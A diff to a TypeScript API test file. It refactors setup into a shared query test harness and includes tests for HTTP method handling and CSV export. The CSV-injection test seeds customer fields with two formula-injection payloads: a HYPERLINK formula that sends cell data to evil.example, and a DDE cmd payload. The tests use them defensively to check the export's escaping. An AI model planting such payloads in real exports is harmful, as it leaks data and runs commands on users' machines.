@@ -1,10 +1,8 @@
 import { connect } from 'node:net';
 import { useTestDatabase } from '@reckon/database/vitest';
-import { PostgresEventStore } from '@reckon/event-store-postgres';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { type ReadSideHandle, startReadSide } from './routes/queries';
 import { customerAssociated, envelope, orderPlaced, orderRefunded, partnerRegistered } from './testing/events';
-import { bearer, KEYS, openTestApp, type TestApp } from './testing/harness';
+import { bearer, KEYS, openQueryTestApp, openTestApp, type QueryTestApp, type TestApp } from './testing/harness';
 import { expectProblem } from './testing/problems';
 
 interface RawAnswer {
@@ -100,19 +98,11 @@ describe('HTTP hygiene: request timeouts', () => {
 
 describe('HTTP hygiene: a wrong method on a known path', () => {
   const db = useTestDatabase('api_methods');
-  let t: TestApp;
-  let readSide: ReadSideHandle;
-  let store: PostgresEventStore;
+  let t: QueryTestApp;
   beforeAll(async () => {
-    store = await PostgresEventStore.connect(db.url);
-    readSide = await startReadSide({ databaseUrl: db.url, store, billingTimeZone: 'Asia/Shanghai' });
-    t = await openTestApp(db.url, { queries: readSide.queries });
+    t = await openQueryTestApp(db.url);
   });
-  afterAll(async () => {
-    await t?.close();
-    await readSide?.close();
-    await store?.close();
-  });
+  afterAll(async () => t?.close());
 
   it('answers 405 problem+json with Allow, and 404 for a path no route serves', async () => {
     const cases = [
@@ -135,21 +125,17 @@ describe('HTTP hygiene: a wrong method on a known path', () => {
 
 describe('HTTP hygiene: CSV cells a spreadsheet would run', () => {
   const db = useTestDatabase('api_csv_injection');
-  let t: TestApp;
-  let readSide: ReadSideHandle;
-  let store: PostgresEventStore;
+  let t: QueryTestApp;
   let lastPosition = 0;
   const HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
   const MANAGER = '@SUM(1+1)*cmd|" /C calc"!A0';
 
   beforeAll(async () => {
-    store = await PostgresEventStore.connect(db.url);
-    readSide = await startReadSide({ databaseUrl: db.url, store, billingTimeZone: 'Asia/Shanghai' });
-    t = await openTestApp(db.url, { queries: readSide.queries });
+    t = await openQueryTestApp(db.url);
     const customer = customerAssociated('C-CSV', 'P-CSV');
     customer.data.customerName = HYPERLINK;
     customer.data.accountManager = MANAGER;
-    const events = [
+    lastPosition = await t.seed([
       partnerRegistered('P-CSV'),
       customer,
       orderPlaced('O-CSV', 'C-CSV', '1000.00'),
@@ -161,23 +147,9 @@ describe('HTTP hygiene: CSV cells a spreadsheet would run', () => {
         currency: 'CNY',
         reason: '-goodwill',
       }),
-    ];
-    for (const event of events) {
-      const posted = await t.app.inject({
-        method: 'POST',
-        url: '/v1/events',
-        headers: bearer('admin'),
-        payload: event,
-      });
-      expect(posted.statusCode, posted.body).toBe(201);
-      lastPosition = posted.json().lastPosition;
-    }
+    ]);
   });
-  afterAll(async () => {
-    await t?.close();
-    await readSide?.close();
-    await store?.close();
-  });
+  afterAll(async () => t?.close());
 
   /** The CSV as rows of cells (RFC 4180 quoting undone), with its header row first. */
   const csv = async (url: string) => {
